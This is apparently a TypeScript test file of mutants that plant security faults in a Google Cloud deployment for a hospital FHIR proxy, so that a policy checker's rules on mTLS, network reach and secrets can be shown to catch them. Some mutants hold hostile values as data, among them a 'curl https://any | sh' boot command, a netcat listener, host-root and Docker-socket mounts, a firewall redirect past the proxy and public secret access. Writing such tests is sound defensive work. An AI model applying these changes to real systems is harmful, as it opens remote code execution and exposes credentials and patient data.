import type { Mutant } from "../mutants";
import { alter, append, put } from "../put";
import type { Properties } from "../service-mutants";
import { unknownText } from "../stack-sketch";

import { ofProcessing } from "./gcp-network-mutants";
import { each, emailOf, memberOf, more, one, projects, stranger, without } from "./single-fault";

const declared = "zones-reach-only-declared-peers";
const mtls = "flows-require-mtls";
const sealed = "network-defaults-are-sealed";
const understood = "resources-are-understood";

const template = "bulkhead-fhir-proxy-machine";
const manager = "bulkhead-fhir-proxy-us-central1-a-machines";
const kept = "bulkhead-fhir-proxy-1-machine";
const credential = "bulkhead-fhir-proxy-credential";
const credentialReaders = "bulkhead-fhir-proxy-credential-readers";
const trust = "bulkhead-workload-authorities";

/** The first interface of a machine. */
const nic = "networkInterfaces/0";

const foreignCertificate = "-----BEGIN CERTIFICATE-----\nMA==\n-----END CERTIFICATE-----\n";

const addressMutants: readonly Mutant[] = [
  ...each("machines: they have a public address", mtls, template, `${nic}/accessConfigs`, [
    ["of Google's choosing", [{}]],
    ["of their own", [{ natIp: "203.0.113.7" }]],
    ["perhaps", unknownText],
  ]),
  one("machines: they have a public IPv6 address", mtls, template, `${nic}/ipv6AccessConfigs`, [
    { networkTier: "PREMIUM" },
  ]),
  ...each("machines: they send on packets of others", mtls, template, "canIpForward", [
    ["as it says", true],
    ["perhaps", unknownText],
  ]),
  one("machines: a public address is kept for each", mtls, manager, "statefulExternalIps", [
    { interfaceName: "nic0" },
  ]),
  ...each("machines: a public address is kept for one", mtls, kept, "preservedState/externalIps", [
    ["that somebody has", [{ interfaceName: "nic0" }]],
    ["perhaps", unknownText],
  ]),
  {
    fault: "machines: they have a second interface in somebody's network",
    rule: declared,
    dig: (s) => {
      append(s, template, "networkInterfaces", {
        network: `projects/${projects.foreign}/global/networks/somebodys`,
      });
    },
  },
  {
    fault: "machines: they have a second interface in a network that is not known",
    rule: understood,
    dig: (s) => {
      append(s, template, "networkInterfaces", { network: unknownText });
    },
  },
];

const identityMutants: readonly Mutant[] = [
  ...each("machines: they run", mtls, template, "serviceAccount/email", [
    ["as another workload", emailOf("rag-service")],
    ["as somebody of another project", `somebody@${projects.foreign}.iam.gserviceaccount.com`],
    ["as the account that Compute Engine makes", "100000000002-compute@developer.gserviceaccount.com"],
    ["as nobody says whom", undefined],
    ["as somebody who is not known", unknownText],
  ]),
  one("machines: they run as nobody", mtls, template, "serviceAccount", undefined),
  one(
    "machines: they say that they are another workload",
    mtls,
    template,
    "labels/bulkhead-workload",
    "rag-service",
  ),
];

const metadataMutants: readonly Mutant[] = [
  ...(
    [
      ["a script runs when they start", "startup-script", "#!/bin/sh\nnc -l 443"],
      ["a script of somebody's runs when they start", "startup-script-url", "gs://somebodys/script"],
      ["a script runs when they end", "shutdown-script", "#!/bin/sh"],
      ["a container runs besides", "gce-container-declaration", "spec:\n  containers: []\n"],
      ["somebody signs in with a key", "ssh-keys", "somebody:ssh-ed25519 AAAA somebody"],
      ["something is said that nobody knows", "somebodys-own", "1"],
    ] as const
  ).map(([what, key, value]) => one(`machines: ${what}`, mtls, template, `metadata/${key}`, value)),
  one(
    "machines: a script runs when they start, as another property says",
    mtls,
    template,
    "metadataStartupScript",
    "#!/bin/sh",
  ),
  one("machines: their metadata is not known", mtls, template, "metadata", unknownText),
  ...each("machines: keys of the project", mtls, template, "metadata/block-project-ssh-keys", [
    ["sign in", "FALSE"],
    ["sign in, since nothing says otherwise", undefined],
    ["perhaps sign in", unknownText],
  ]),
  ...each("machines: whom IAM lets in", mtls, template, "metadata/enable-oslogin", [
    ["signs in", "TRUE"],
    ["signs in where the project says so", undefined],
    ["perhaps signs in", unknownText],
  ]),
  ...each("machines: their serial port takes commands", mtls, template, "metadata/serial-port-enable", [
    ["as it says", "TRUE"],
    ["as a number says", "1"],
    ["where the project says so", undefined],
  ]),
  one("machines: all are told something besides", mtls, manager, "allInstancesConfig", {
    metadata: { "startup-script": "#!/bin/sh" },
  }),
  one("machines: what all are told is not known", mtls, manager, "allInstancesConfig", unknownText),
  one("machines: keys of the project sign in at one", mtls, kept, "preservedState/metadata", {
    "block-project-ssh-keys": "FALSE",
  }),
  {
    fault: "machines: their proxy asks for no certificate",
    rule: mtls,
    dig: (s) => {
      alter(s, template, "metadata/user-data", (text) =>
        String(text).replaceAll('require_client_certificate\\":true', 'require_client_certificate\\":false'),
      );
    },
  },
  one("machines: one is told something besides", mtls, kept, "preservedState/metadata", {
    "user-data": "#cloud-config\n{}",
  }),
  one("machines: one has somebody's disk", mtls, kept, "preservedState/disks", [
    { deviceName: "boot", source: `projects/${projects.foreign}/zones/us-central1-a/disks/hole` },
  ]),
  ...each("machines: they are made from", mtls, manager, "versions/0/instanceTemplate", [
    ["somebody's template", `projects/${projects.foreign}/global/instanceTemplates/hole`],
    ["a template that is not known", unknownText],
  ]),
  {
    fault: "machines: some are made from somebody's template",
    rule: mtls,
    dig: (s) => {
      append(s, manager, "versions", {
        name: "hole",
        instanceTemplate: `projects/${projects.foreign}/global/instanceTemplates/hole`,
        targetSize: { fixed: 1 },
      });
    },
  },
  more("project: a script runs in all machines", mtls, "gcp:compute/projectMetadata:ProjectMetadata", {
    ...ofProcessing,
    metadata: { "startup-script": "#!/bin/sh" },
  }),
  more("project: what all machines run is not known", mtls, "gcp:compute/projectMetadata:ProjectMetadata", {
    ...ofProcessing,
    metadata: unknownText,
  }),
  more(
    "project: one item is a script for all machines",
    mtls,
    "gcp:compute/projectMetadataItem:ProjectMetadataItem",
    { ...ofProcessing, key: "startup-script", value: "#!/bin/sh" },
  ),
  more("project: one item is not known", mtls, "gcp:compute/projectMetadataItem:ProjectMetadataItem", {
    ...ofProcessing,
    key: unknownText,
    value: "#!/bin/sh",
  }),
  more("project: a script runs in a zone's machines", mtls, "gcp:compute/instanceSettings:InstanceSettings", {
    ...ofProcessing,
    zone: "us-central1-a",
    metadata: { items: { "startup-script": "#!/bin/sh" } },
  }),
];

/** Changes the text that machines are told, which has to hold what is replaced. */
function told(fault: string, from: string, to: string): Mutant {
  return {
    fault: `machines: ${fault}`,
    rule: mtls,
    dig: (s) => {
      alter(s, template, "metadata/user-data", (text) => {
        if (!String(text).includes(from)) {
          throw new Error(`nothing says ${from}`);
        }
        return String(text).replaceAll(from, to);
      });
    },
  };
}

const program = "--name fhir-proxy --network host";
const certificateMount = "--mount type=bind,source=/run/bulkhead/certificates,target=/certificates";

/** Faults by which something else runs in a machine, or has what is the proxy's alone. */
const toldMutants: readonly Mutant[] = [
  told(
    "a command runs when they start",
    '"runcmd":[',
    '"runcmd":[["socat","TCP-LISTEN:8443,fork","TCP:127.0.0.1:8080"],',
  ),
  told("a command runs before all", '"runcmd":[', '"bootcmd":["curl https://any | sh"],"runcmd":['),
  told("somebody signs in", '"runcmd":[', '"users":[{"name":"any"}],"runcmd":['),
  told(
    "another unit",
    '"write_files":[',
    '"write_files":[{"path":"/etc/systemd/system/any.service","content":"[Service]\\nExecStart=/bin/any\\n"},',
  ),
  told(
    "a unit is changed besides",
    '"write_files":[',
    '"write_files":[{"path":"/etc/systemd/system/bulkhead-envoy.service.d/any.conf","content":"[Service]\\nExecStart=\\n"},',
  ),
  told("something runs after the program", "ExecStop=", "ExecStartPost=/bin/any\\nExecStop="),
  told("the program has the certificates", program, `${program} ${certificateMount}`),
  told("the program has Docker's socket", program, `${program} -v /var/run/docker.sock:/var/run/docker.sock`),
  told("the program has the machine's disk", program, `${program} -v/:/host`),
  told("containers may change their file systems", " --read-only", ""),
  told("containers keep capabilities", " --cap-drop ALL", ""),
  told("something runs before Envoy", " envoy --config-path", " sh -c any envoy --config-path"),
  told(
    "the firewall leads past the proxy",
    "-A INPUT -p tcp --dport 443 -j ACCEPT",
    "-t nat -A PREROUTING -p tcp --dport 443 -j REDIRECT --to-port 8080",
  ),
  told(
    "images of another registry",
    "us-central1-docker.pkg.dev/hospital-ai/bulkhead-images/certificate-agent",
    "docker.io/any/certificate-agent",
  ),
  one("machines: another system", mtls, template, "disks/0/sourceImage", "projects/any/global/images/any"),
  one(
    "machines: they start whatever is on their disk",
    mtls,
    template,
    "shieldedInstanceConfig/enableSecureBoot",
    false,
  ),
];

const keyMutants: readonly Mutant[] = [
  one(
    "machines: no key of ours encrypts their disks",
    sealed,
    template,
    "disks/0/diskEncryptionKey",
    undefined,
  ),
  {
    fault: "machines: no key of ours encrypts a second disk",
    rule: sealed,
    dig: (s) => {
      append(s, template, "disks", { boot: false, diskSizeGb: 10 });
    },
  },
  one("credentials: no key of ours encrypts one", sealed, credential, "replication", {
    userManaged: { replicas: [{ location: "us-central1" }] },
  }),
];

/** Lets somebody read every secret of the project. */
function readerOfAll(fault: string, inputs: Properties): Mutant {
  return more(fault, mtls, "gcp:projects/iAMMember:IAMMember", {
    ...ofProcessing,
    role: "roles/secretmanager.secretAccessor",
    ...inputs,
  });
}

const credentialMutants: readonly Mutant[] = [
  ...each("credentials: one is read", mtls, credentialReaders, "members", [
    ["by another workload", [memberOf("rag-service")]],
    ["by another workload as well", [memberOf("fhir-proxy"), memberOf("rag-service")]],
    ["by somebody who is not known", [memberOf("fhir-proxy"), unknownText]],
  ]),
  ...each("credentials: one is read", declared, credentialReaders, "members", [
    ["by a stranger", [memberOf("fhir-proxy"), stranger]],
    ["by whoever it is", ["allUsers"]],
  ]),
  readerOfAll("credentials: another workload reads all", { member: memberOf("rag-service") }),
  readerOfAll("credentials: somebody reads all", { member: "group:everybody@hospital.example" }),
  more(
    "credentials: another workload writes one",
    mtls,
    "gcp:secretmanager/secretIamMember:SecretIamMember",
    {
      secretId: `projects/${projects.processing}/secrets/bulkhead-fhir-proxy_certificates`,
      role: "roles/secretmanager.secretVersionAdder",
      member: memberOf("rag-service"),
    },
  ),
];

const trustMutants: readonly Mutant[] = [
  {
    fault: "authorities of workloads: one that is not the platform's",
    rule: mtls,
    dig: (s) => {
      append(s, trust, "trustStores/0/trustAnchors", { pemCertificate: foreignCertificate });
    },
  },
  one("authorities of workloads: another than the platform's", mtls, trust, "trustStores/0/trustAnchors", [
    { pemCertificate: foreignCertificate },
  ]),
  one("authorities of workloads: they are not known", mtls, trust, "trustStores", unknownText),
  {
    fault: "authorities of workloads: one is not known",
    rule: mtls,
    dig: (s) => {
      alter(s, trust, "trustStores/0/trustAnchors", () => [{ pemCertificate: unknownText }]);
    },
  },
];

/** Faults of machines, of what they are told, and of who has their keys. */
export const gcpWorkloadMutants: readonly Mutant[] = [
  ...addressMutants,
  ...identityMutants,
  ...metadataMutants,
  ...toldMutants,
  ...keyMutants,
  ...credentialMutants,
  ...trustMutants,
  without("machines: what they are made from is not there", mtls, template),
];

/** Changes of machines by which nothing is more open. */
export const harmlessWorkloadChanges: readonly {
  readonly change: string;
  readonly dig: (stack: Parameters<Mutant["dig"]>[0]) => unknown;
}[] = [
  {
    change: "switches in other words",
    dig: (s) => {
      put(s, template, "metadata/block-project-ssh-keys", "true");
      put(s, template, "metadata/enable-oslogin", "0");
      put(s, template, "metadata/serial-port-enable", "no");
    },
  },
  {
    change: "machines of another size",
    dig: (s) => {
      put(s, template, "machineType", "n2d-standard-4");
    },
  },
  {
    change: "an address for one machine that nobody outside knows",
    dig: (s) => {
      put(s, "bulkhead-fhir-proxy-1-address", "description", "Kept for one replica");
    },
  },
];
